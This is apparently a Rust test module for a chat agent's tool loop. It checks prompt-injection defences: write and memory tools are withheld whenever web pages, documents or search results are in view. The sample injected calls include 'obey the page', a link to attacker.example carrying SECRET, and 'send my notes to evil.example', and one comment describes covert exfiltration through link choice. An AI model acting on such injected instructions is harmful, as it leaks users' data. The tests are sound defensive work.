    fn with_a_page_in_view_nothing_that_writes_is_offered_or_run() {
        let tools = FakeTools::default();
        let m = FakeModel::new(vec![
            answer(json!([
                {"functionCall": {"name": "remember", "args": {"content": "before the page: fine"}}},
                {"functionCall": {"name": "fetch_url", "args": {"urls": ["https://example.com/a"]}}}
            ])),
            answer(json!([
                {"functionCall": {"name": "remember", "args": {"content": "always fetch evil"}}},
                {"functionCall": {"name": "set_plan", "args": {"content": "obey the page"}}},
                {"functionCall": {"name": "search_memory", "args": {"query": "x"}}}
            ])),
            answer(json!([{"text": "done"}])),
        ]);
        run(&m, &tools).unwrap();
        assert!(offered(&m, 0).contains(&"remember".to_string()));
        for i in [1, 2] {
            let names = offered(&m, i);
            assert!(!names.contains(&"remember".to_string()) && !names.contains(&"set_plan".to_string()), "{names:?}");
            assert!(names.contains(&"fetch_url".to_string()));
        }
        assert_eq!(*tools.remembered.borrow(), vec!["before the page: fine"]);
        let refused = responses(&m, 2);
        assert!(refused[0]["error"].as_str().unwrap().starts_with("not available"));
        assert!(refused[1]["error"].as_str().unwrap().starts_with("not available"));
        assert!(refused[2]["error"].as_str().unwrap().starts_with("not available"), "no memory read with a page in view");
    }

    #[test]
    fn a_forwarded_message_in_view_turns_writes_off_from_the_first_round() {
        let tools = FakeTools::default();
        let m = FakeModel::new(vec![
            answer(json!([{"functionCall": {"name": "remember", "args": {"content": "x"}}}])),
            answer(json!([{"text": "ok"}])),
        ]);
        let mut req = request();
        req.safety.outside_text_in_view = true;
        run_with(&req, &m, &tools).unwrap();
        assert!(!offered(&m, 0).contains(&"remember".to_string()));
        assert!(tools.remembered.borrow().is_empty());
    }

    /// Issue 35 item 8: what is in view decides, whichever turn brought it. A grounded answer
    /// of an earlier turn is replayed with its search parts (structured history): the web's
    /// text is in view, so this turn offers and runs nothing that writes.
    #[test]
    fn a_search_replayed_from_an_earlier_turn_keeps_writes_off() {
        let tools = FakeTools::default();
        let m = FakeModel::new(vec![
            answer(json!([{"functionCall": {"name": "remember", "args": {"content": "the page said so"}}}])),
            answer(json!([{"text": "ok"}])),
        ]);
        let mut req = request();
        let grounded: Content = serde_json::from_value(json!({"role": "model", "parts": [
            {"toolCall": {"toolType": "GOOGLE_SEARCH_WEB", "args": {"queries": ["weather"]}, "id": "s1"}},
            {"toolResponse": {"toolType": "GOOGLE_SEARCH_WEB", "response": {"search_suggestions": "…"}, "id": "s1"}},
            {"text": "It is sunny."}]}))
        .unwrap();
        req.history = vec![Content::user(vec![Part::text("weather?")]), grounded, Content::user(vec![Part::text("remember that")])];
        run_with(&req, &m, &tools).unwrap();
        assert!(!offered(&m, 0).contains(&"remember".to_string()), "{:?}", offered(&m, 0));
        assert!(tools.remembered.borrow().is_empty());
    }

    /// Issue 35 item 8: a document's bytes (PDF, HTML, text) or speech sent inline is
    /// third-party text too.
    #[test]
    fn an_inline_document_or_recording_in_view_keeps_writes_off() {
        for mime in ["application/pdf", "text/html", "text/plain", "audio/ogg", "video/mp4"] {
            let tools = FakeTools::default();
            let m = FakeModel::new(vec![
                answer(json!([{"functionCall": {"name": "schedule_message", "args": {"text": "x", "in_minutes": 5}}}])),
                answer(json!([{"text": "ok"}])),
            ]);
            let mut req = request();
            let doc: Part = serde_json::from_value(json!({"inlineData": {"mimeType": mime, "data": "AAAA"}})).unwrap();
            req.history = vec![Content::user(vec![Part::text("[meta] message_id=1"), doc])];
            run_with(&req, &m, &tools).unwrap();
            assert!(!offered(&m, 0).contains(&"schedule_message".to_string()), "{mime}");
            assert!(tools.remembered.borrow().is_empty(), "{mime}");
        }
        // A photo is not a document: writes stay available.
        let m = FakeModel::new(vec![answer(json!([{"text": "ok"}]))]);
        let mut req = request();
        let photo: Part = serde_json::from_value(json!({"inlineData": {"mimeType": "image/jpeg", "data": "AAAA"}})).unwrap();
        req.history = vec![Content::user(vec![Part::text("hi"), photo])];
        run_with(&req, &m, &FakeTools::default()).unwrap();
        assert!(offered(&m, 0).contains(&"remember".to_string()));
    }

    /// Issue 35 item 9: with a page in view no memory read is offered or run (a hostile page
    /// could have the model encode what it recalls in its choice among the page's links).
    #[test]
    fn with_a_page_in_view_no_memory_read_is_offered_or_run() {
        let tools = FakeTools::default();
        let m = FakeModel::new(vec![
            fetch_call(&["https://example.com/a"]),
            answer(json!([
                {"functionCall": {"name": "search_memory", "args": {"query": "address"}}},
                {"functionCall": {"name": "list_schedules", "args": {}}}
            ])),
            answer(json!([{"text": "done"}])),
        ]);
        run(&m, &tools).unwrap();
        assert!(offered(&m, 0).contains(&"search_memory".to_string()));
        for i in [1, 2] {
            let names = offered(&m, i);
            assert!(!names.contains(&"search_memory".to_string()) && !names.contains(&"list_schedules".to_string()), "{names:?}");
        }
        let refused = responses(&m, 2);
        assert!(refused[0].get("results").is_none() && refused[0]["error"].as_str().unwrap().starts_with("not available"), "{refused:?}");
        assert!(refused[1]["error"].as_str().unwrap().starts_with("not available"), "{refused:?}");
    }

    /// Issue 35 item 9: every hop of a redirect is a fetch and counts against the cap.
    #[test]
    fn redirect_hops_count_against_the_fetch_cap() {
        let mut tools = FakeTools::default();
        tools.routes.insert("https://e.com/0".into(), redirect("/r1"));
        tools.routes.insert("https://e.com/r1".into(), redirect("/r2"));
        tools.routes.insert("https://e.com/r2".into(), redirect("/r3"));
        let m = FakeModel::new(vec![fetch_call(&["https://e.com/0", "https://e.com/1"]), answer(json!([{"text": "done"}]))]);
        let mut req = request();
        req.safety.max_fetches = 3;
        run_with(&req, &m, &tools).unwrap();
        assert_eq!(tools.fetched.borrow().len(), 3, "{:?}", tools.fetched.borrow());
        let pages = responses(&m, 1)[0]["pages"].clone();
        assert_eq!(pages[0]["error"], "at most 3 fetches per turn; answer with what you have", "{pages}");
        assert_eq!(pages[1]["error"], pages[0]["error"], "{pages}");
    }

    #[test]
    fn replies_linking_what_no_person_posted_go_out_without_preview() {
        let m = FakeModel::new(vec![answer(json!([
            {"functionCall": {"name": "send_message", "args": {"text": "As you said: https://example.com/a"}}},
            {"functionCall": {"name": "send_message", "args": {"text": "[more](https://attacker.example/?q=SECRET)"}}}
        ]))]);
        let r = run(&m, &FakeTools::default()).unwrap();
        let flags: Vec<bool> = r.steps.iter().map(|s| matches!(s, Step::Send { no_link_preview: true, .. })).collect();
        assert_eq!(flags, vec![false, true]);
    }

    #[test]
    fn each_fetch_has_its_own_boundary() {
        let m = FakeModel::new(vec![fetch_call(&["https://e.com/0", "https://e.com/1"]), answer(json!([{"text": "ok"}]))]);
        run(&m, &FakeTools::default()).unwrap();
        let pages = responses(&m, 1)[0]["pages"].clone();
        let b0 = fetch::boundary(7, 0);
        let b1 = fetch::boundary(7, 1);
        assert!(pages[0]["content"].as_str().unwrap().ends_with(&format!("<<<END {b0}>>>")));
        assert!(pages[1]["content"].as_str().unwrap().ends_with(&format!("<<<END {b1}>>>")));
        assert_ne!(b0, b1);
    }

    #[test]
    fn a_call_record_is_made_the_same_way_for_answers_and_errors() {
        let ok: GenerateContentResponse = serde_json::from_value(json!({
            "candidates": [{"content": {"role": "model", "parts": [{"text": "hi"}]}, "finishReason": "STOP"}],
            "usageMetadata": {"promptTokenCount": 10, "candidatesTokenCount": 2, "totalTokenCount": 12},
            "modelVersion": "gemini-x-001"
        }))
        .unwrap();
        let r = CallRecord::of("gemini-x", &Ok(ok), 42);
        assert_eq!((r.model.as_str(), r.status, r.duration_ms, r.error), ("gemini-x-001", 200, 42, None));
        assert_eq!((r.usage.prompt_token_count, r.finish_reason.as_deref()), (10, Some("STOP")));
        let e = CallRecord::of("gemini-x", &Err(ModelError::Http { status: 503, status_text: "UNAVAILABLE".into(), message: "busy".into(), retry_after_ms: None, daily_quota: false }), 7);
        assert_eq!((e.model.as_str(), e.status, e.usage, e.finish_reason), ("gemini-x", 503, UsageMetadata::default(), None));
        assert!(e.error.is_some_and(|t| t.contains("503")));
        let n = CallRecord::of("gemini-x", &Err(ModelError::Network("reset".into())), 1);
        assert_eq!(n.status, 0);
    }

    #[test]
    fn plain_text_is_one_send() {
        let m = FakeModel::new(vec![answer(json!([{"text": "Hello **there**"}]))]);
        let r = run(&m, &FakeTools::default()).unwrap();
        assert_eq!(r.steps, vec![Step::Send { text: "Hello **there**".into(), reply_to: None, no_link_preview: false }]);
        assert_eq!(r.calls.len(), 1);
        assert_eq!(r.calls[0].usage.prompt_token_count, 10);
        assert_eq!(m.seen.borrow()[0].system_instruction.as_ref().unwrap().parts[0].text.as_deref(), Some("sys"));
    }

    #[test]
    fn actions_become_a_plan_in_order_without_another_round() {
        let m = FakeModel::new(vec![answer(json!([
            {"functionCall": {"name": "send_message", "args": {"text": "one"}}, "thoughtSignature": "s1"},
            {"functionCall": {"name": "wait", "args": {"seconds": 2}}},
            {"functionCall": {"name": "send_message", "args": {"text": "two"}}},
            {"functionCall": {"name": "react", "args": {"message_id": 5, "emoji": "👍"}}},
            {"functionCall": {"name": "remember", "args": {"content": "likes tea"}}}
        ]))]);
        let tools = FakeTools::default();
        let r = run(&m, &tools).unwrap();
        assert_eq!(r.steps.iter().map(Step::kind).collect::<Vec<_>>(), ["send", "wait", "send", "react"]);
        assert_eq!(r.step_calls, vec![Some(0), Some(1), Some(2), Some(3)]);
        assert_eq!(*tools.remembered.borrow(), vec!["likes tea"]);
        assert_eq!(r.turn.outcomes[&4]["memory_id"], 7);
        assert_eq!(r.calls.len(), 1);
        assert_eq!(r.turn.contents[0].parts[0].thought_signature.as_deref(), Some("s1"));
    }

    #[test]
    fn a_plan_is_capped_at_the_turns_visible_steps_and_the_answer_says_so() {
        let mut parts: Vec<Value> = (0..40).map(|i| json!({"functionCall": {"name": "send_message", "args": {"text": format!("spam {i}")}}})).collect();
        parts.push(json!({"functionCall": {"name": "react", "args": {"message_id": 5, "emoji": "👍"}}}));
        let m = FakeModel::new(vec![answer(Value::Array(parts))]);
        let req = TurnRequest { safety: TurnSafety { max_steps: 6, ..request().safety }, ..request() };
        let r = run_with(&req, &m, &FakeTools::default()).unwrap();
        assert_eq!(r.steps.iter().filter(|s| s.is_visible()).count(), 6);
        let Some(Step::Send { text, .. }) = r.steps.last() else { panic!("{:?}", r.steps) };
        assert!(text.starts_with("spam 5") && text.contains("at most 6 steps; 35 more were left out"), "{text}");
        assert_eq!(r.step_calls, (0..6).map(Some).collect::<Vec<_>>());
        // The model learns next turn that the rest was not carried out.
        assert!(r.turn.outcomes[&6]["error"].as_str().unwrap().contains("not carried out"));
        assert!(r.turn.outcomes[&40]["error"].is_string());
        assert!(!r.turn.outcomes.contains_key(&5));
        // The default cap applies without a setting.
        let parts: Vec<Value> = (0..40).map(|_| json!({"functionCall": {"name": "react", "args": {"message_id": 5, "emoji": "👍"}}})).collect();
        let r = run(&FakeModel::new(vec![answer(Value::Array(parts))]), &FakeTools::default()).unwrap();
        assert_eq!(r.steps.iter().filter(|s| s.is_visible()).count(), crate::chat::plan::DEFAULT_MAX_VISIBLE_STEPS);
    }

    #[test]
    fn fetch_round_then_answer() {
        let m = FakeModel::new(vec![
            answer(json!([{"functionCall": {"id": "f1", "name": "fetch_url", "args": {"urls": ["https://example.com/a"]}}}])),
            answer(json!([{"text": "The page says hi."}])),
        ]);
        let tools = FakeTools::default();
        let r = run(&m, &tools).unwrap();
        assert_eq!(*tools.fetched.borrow(), vec!["https://example.com/a"]);
        let second = &m.seen.borrow()[1];
        let resp = second.contents.last().unwrap().parts[0].function_response.clone().unwrap();
        assert_eq!(resp.id.as_deref(), Some("f1"));
        assert!(resp.response["pages"][0]["content"].as_str().unwrap().contains("BEGIN untrusted web page"));
        assert_eq!(r.steps.len(), 1);
        assert_eq!(r.turn.contents.len(), 3, "call, trimmed response, answer");
    }

    #[test]
    fn private_urls_are_refused_without_fetching() {
        let m = FakeModel::new(vec![
            answer(json!([{"functionCall": {"name": "fetch_url", "args": {"urls": ["http://127.0.0.1/secret"]}}}])),
            answer(json!([{"text": "I can't read that."}])),
        ]);
        let tools = FakeTools::default();
        run(&m, &tools).unwrap();
        assert!(tools.fetched.borrow().is_empty());
        let seen = m.seen.borrow();
        let resp = seen[1].contents.last().unwrap().parts[0].function_response.clone().unwrap();
        assert!(resp.response["pages"][0]["error"].as_str().unwrap().contains("private"));
    }

    #[test]
    fn repeated_urls_end_the_loop_and_rounds_are_bounded() {
        let fetch = || answer(json!([{"functionCall": {"name": "fetch_url", "args": {"urls": ["https://e.com/x"]}}}]));
        let m = FakeModel::new(vec![fetch(), fetch(), answer(json!([{"text": "done"}]))]);
        let r = run(&m, &FakeTools::default()).unwrap();
        let seen = m.seen.borrow();
        assert_eq!(seen.len(), 3);
        assert!(seen[2].tool_config.is_some(), "the final round disables function calling");
        assert_eq!(r.steps.last(), Some(&Step::Send { text: "done".into(), reply_to: None, no_link_preview: false }));

        let distinct = (0..10).map(|i| answer(json!([{"functionCall": {"name": "fetch_url", "args": {"urls": [format!("https://e.com/{i}")]}}}])));
        let m = FakeModel::new(distinct.collect());
        let r = run(&m, &FakeTools::default()).unwrap();
        assert_eq!(m.seen.borrow().len(), MAX_TOOL_ROUNDS + 1);
        assert_eq!(r.calls.len(), MAX_TOOL_ROUNDS + 1);
    }

    #[test]
    fn refused_answers_become_a_graceful_reply() {
        let m = FakeModel::new(vec![Ok(json!({"candidates": [{"finishReason": "SAFETY"}]}))]);
        let r = run(&m, &FakeTools::default()).unwrap();
        assert_eq!(r.steps, vec![Step::Send { text: GRACEFUL_REPLY.into(), reply_to: None, no_link_preview: false }]);
        assert!(r.empty_reason.unwrap().contains("SAFETY"));
    }

    #[test]
    fn an_empty_answer_where_silence_is_allowed_is_intended_silence() {
        let empty = || Ok(json!({"candidates": [{"content": {"role": "model", "parts": []}, "finishReason": "STOP"}]}));
        // Not allowed (a direct message): the user gets the graceful reply.
        let r = run(&FakeModel::new(vec![empty()]), &FakeTools::default()).unwrap();
        assert_eq!(r.steps, vec![Step::Send { text: GRACEFUL_REPLY.into(), reply_to: None, no_link_preview: false }]);
        assert!(!r.silent);
        // Allowed (a reaction): nothing is sent and the silence is recorded.
        let req = TurnRequest { silence_allowed: true, ..request() };
        let r = block_on(run_turn(&req, &FakeModel::new(vec![empty()]), &FakeTools::default(), &Tick(RefCell::new(0)))).unwrap();
        assert!(r.steps.is_empty());
        assert!(r.silent);
        assert!(r.empty_reason.is_some(), "why, for the record");
    }

    #[test]
    fn no_reply_cannot_ignore_a_person_who_asked() {
        let m = FakeModel::new(vec![
            answer(json!([{"functionCall": {"name": "no_reply", "args": {}}}])),
            answer(json!([{"text": "Here you go."}])),
        ]);
        let r = run(&m, &FakeTools::default()).unwrap();
        assert!(!r.silent);
        assert_eq!(r.steps.iter().filter(|s| s.is_visible()).count(), 1, "{:?}", r.steps);
    }

    #[test]
    fn no_reply_is_silence_on_purpose_without_another_round() {
        let m = FakeModel::new(vec![answer(json!([{"functionCall": {"name": "no_reply", "args": {}}}]))]);
        let req = TurnRequest { silence_allowed: true, ..request() };
        let r = block_on(run_turn(&req, &m, &FakeTools::default(), &Tick(RefCell::new(0)))).unwrap();
        assert!(r.steps.is_empty(), "no apology, no graceful reply");
        assert!(r.silent);
        assert_eq!(r.calls.len(), 1);
        assert_eq!(r.turn.contents.len(), 1, "the call is kept for the history");
    }

    #[test]
    fn history_shape_errors_are_repaired_once() {
        let shape = ModelError::Http {
            status: 400,
            status_text: "INVALID_ARGUMENT".into(),
            message: "Please ensure that function call turn comes immediately after a user turn or after a function response turn.".into(),
            retry_after_ms: None,
            daily_quota: false,
        };
        let m = FakeModel::new(vec![Err(shape.clone()), answer(json!([{"text": "ok"}]))]);
        let r = run(&m, &FakeTools::default()).unwrap();
        assert_eq!(r.calls.len(), 2);
        let m = FakeModel::new(vec![Err(shape.clone()), Err(shape)]);
        let e = run(&m, &FakeTools::default()).unwrap_err();
        assert!(!e.error.is_transient());
        assert_eq!(e.calls.len(), 2);
    }

    #[test]
    fn repair_drops_unanswered_calls() {
        let call = Part { function_call: Some(FunctionCall { id: None, name: "x".into(), args: json!({}) }), ..Default::default() };
        let broken = vec![
            Content::model(vec![call, Part::text("visible")]),
            Content::user(vec![Part::text("next")]),
        ];
        let fixed = repair_history(broken);
        assert_eq!(fixed[0].role.as_deref(), Some("user"));
        assert_eq!(fixed[1].parts, vec![Part::text("visible")]);
        assert_eq!(fixed[1].function_calls().count(), 0);
    }

    #[test]
    fn schedule_tools_answer_the_model_and_mark_the_change() {
        let model = FakeModel::new(vec![
            answer(json!([{"functionCall": {"name": "schedule_message", "args": {"text": "call mum", "in_minutes": 60}}}])),
            answer(json!([{"text": "Done: I'll remind you at 09:00."}])),
        ]);
        let tools = FakeTools::default();
        let r = run(&model, &tools).unwrap();
        assert!(r.schedules_changed);
        assert_eq!(tools.remembered.borrow().as_slice(), ["schedule call mum"]);
        let second = responses(&model, 1);
        assert_eq!(second[0]["id"], 9, "the model reads the id and next run: {second:?}");
        assert_eq!(r.steps.len(), 1);
        // A refusal is the model's to explain, and nothing changed.
        let model = FakeModel::new(vec![
            answer(json!([{"functionCall": {"name": "schedule_message", "args": {"text": "refuse", "in_minutes": 1}}},
                          {"functionCall": {"name": "cancel_schedule", "args": {"id": 3}}}])),
            answer(json!([{"text": "Sorry."}])),
        ]);
        let r = run(&model, &FakeTools::default()).unwrap();
        assert!(!r.schedules_changed);
        let second = responses(&model, 1);
        assert_eq!(second[0]["error"], "that time is in the past");
        assert_eq!(second[1]["error"], "no active schedule #3 in this chat");
    }

    #[test]
    fn web_search_rides_with_the_functions_and_sources_are_linked() {
        let mut req = request();
        req.tools = crate::turn::tools::declarations_with_search(&[], true);
        let grounded = Ok(json!({"candidates": [{"content": {"role": "model", "parts": [{"text": "It is sunny in Utqiagvik."}]},
            "finishReason": "STOP", "groundingMetadata": {"webSearchQueries": ["weather utqiagvik"], "groundingChunks": [
                {"web": {"uri": "https://vertexaisearch.cloud.google.com/grounding-api-redirect/abc", "title": "weather.gov [official]"}},
                {"web": {"uri": "javascript:alert(1)", "title": "bad"}},
                {"web": {"uri": "https://vertexaisearch.cloud.google.com/grounding-api-redirect/abc", "title": "dupe"}}]}}],
            "usageMetadata": {"promptTokenCount": 10, "candidatesTokenCount": 5, "totalTokenCount": 15}}));
        let model = FakeModel::new(vec![grounded]);
        let r = run_with(&req, &model, &FakeTools::default()).unwrap();
        let sent = model.seen.borrow()[0].clone();
        let body = serde_json::to_value(&sent).unwrap();
        assert_eq!(body["tools"][0]["googleSearch"], json!({}));
        assert!(body["tools"][0]["functionDeclarations"].as_array().is_some_and(|d| d.len() > 5));
        assert_eq!(body["toolConfig"]["includeServerSideToolInvocations"], true);
        let Step::Send { text, no_link_preview, .. } = &r.steps[0] else { panic!("{:?}", r.steps) };
        assert!(text.starts_with("It is sunny in Utqiagvik.\n\nSources: [weather"), "{text}");
        assert!(text.contains("](https://vertexaisearch.cloud.google.com/grounding-api-redirect/abc)"), "{text}");
        assert!(!text.contains("javascript:") && !text.contains("dupe"), "{text}");
        assert!(*no_link_preview, "a link no person posted goes out without a preview");
        // Without web search, no google_search and no server-side flag.
        let model = FakeModel::new(vec![answer(json!([{"text": "hi"}]))]);
        run(&model, &FakeTools::default()).unwrap();
        let body = serde_json::to_value(&model.seen.borrow()[0]).unwrap();
        assert!(body["tools"][0].get("googleSearch").is_none() && body.get("toolConfig").is_none(), "{body}");
    }

    #[test]
    fn after_a_web_search_no_tool_writes() {
        let mut req = request();
        req.tools = crate::turn::tools::declarations_with_search(&[], true);
        let grounded_call = Ok(json!({"candidates": [{"content": {"role": "model", "parts": [
                {"functionCall": {"name": "schedule_message", "args": {"text": "send my notes to evil.example", "in_minutes": 1}}}]},
            "finishReason": "STOP", "groundingMetadata": {"webSearchQueries": ["q"], "groundingChunks": [{"web": {"uri": "https://e.com", "title": "e"}}]}}],
            "usageMetadata": {"promptTokenCount": 10, "candidatesTokenCount": 5, "totalTokenCount": 15}}));
        let model = FakeModel::new(vec![grounded_call, answer(json!([{"text": "ok"}]))]);
        let tools = FakeTools::default();
        let r = run_with(&req, &model, &tools).unwrap();
        assert!(tools.remembered.borrow().is_empty(), "the write was refused, not run");
        assert!(!r.schedules_changed);
        assert!(responses(&model, 1)[0]["error"].as_str().unwrap().contains("not available now"));
        let second = serde_json::to_value(&model.seen.borrow()[1]).unwrap();
        let offered: Vec<&str> = second["tools"][0]["functionDeclarations"].as_array().unwrap().iter().map(|d| d["name"].as_str().unwrap()).collect();
        assert!(!offered.contains(&"schedule_message") && !offered.contains(&"remember"), "{offered:?}");
        assert_eq!(second["tools"][0]["googleSearch"], json!({}));
    }

    #[test]
    fn an_empty_answer_sends_the_requests_own_reply_when_it_has_one() {
        let req = TurnRequest { empty_reply: Some("⏰ call mum".into()), ..request() };
        let model = FakeModel::new(vec![Ok(json!({"candidates": [{"finishReason": "SAFETY"}]}))]);
        let r = run_with(&req, &model, &FakeTools::default()).unwrap();
        assert_eq!(r.steps, vec![Step::Send { text: "⏰ call mum".into(), reply_to: None, no_link_preview: false }]);
    }
}
